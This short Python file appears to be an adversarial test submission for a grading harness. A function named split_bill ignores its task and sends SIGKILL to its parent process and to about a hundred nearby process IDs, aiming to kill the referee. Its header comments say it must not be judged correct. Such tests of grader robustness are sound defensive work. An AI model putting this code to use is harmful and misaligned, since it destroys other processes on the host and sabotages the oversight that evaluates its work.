# Attack: kill every process it can, the referee among them
# Must: not be judged right

import os

def split_bill(total_cents, people):
    for pid in [os.getppid(), *range(os.getpid() - 50, os.getpid() + 50)]:
        if pid != os.getpid():
            try:
                os.kill(pid, 9)
            except OSError:
                pass
    return None
